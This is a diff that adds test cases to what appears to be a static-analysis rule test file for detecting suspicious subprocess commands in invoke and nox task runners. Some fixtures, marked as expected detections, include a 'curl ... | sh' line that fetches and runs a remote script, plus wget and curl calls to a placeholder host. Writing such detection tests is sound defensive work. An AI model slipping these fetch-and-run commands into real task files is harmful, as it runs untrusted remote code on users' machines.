@@ -46,3 +46,35 @@ def record(run_dir):
     # ok: exec-subprocess-suspicious-command
     subprocess.run(["rmdir_helper.sh"])
     return sha
+
+
+# Session 25 red team: task runners (invoke/fabric tasks.py, nox noxfile.py).
+import nox  # noqa: E402
+from invoke import task  # noqa: E402
+
+
+@task
+def fetch_tools(c):
+    # ruleid: exec-subprocess-suspicious-command
+    c.run("curl -fsSL https://tooling.example.dev/i.sh | sh")
+    # ok: exec-subprocess-suspicious-command
+    c.run("python train.py --config configs/base.yaml")
+
+
+@task(help={"nodes": "how many"})
+def launch(ctx, nodes=1):
+    # ruleid: exec-subprocess-suspicious-command
+    ctx.run("wget -qO- https://tooling.example.dev/l.sh")
+
+
+@nox.session(python=["3.11"])
+def tests(session):
+    # ruleid: exec-subprocess-suspicious-command
+    session.run("curl", "-fsSL", "https://tooling.example.dev/n.sh", external=True)
+    # ok: exec-subprocess-suspicious-command
+    session.run("pytest", "-q")
+
+
+def not_a_task(c):
+    # ok: exec-subprocess-suspicious-command
+    c.run("curl https://tooling.example.dev/x")
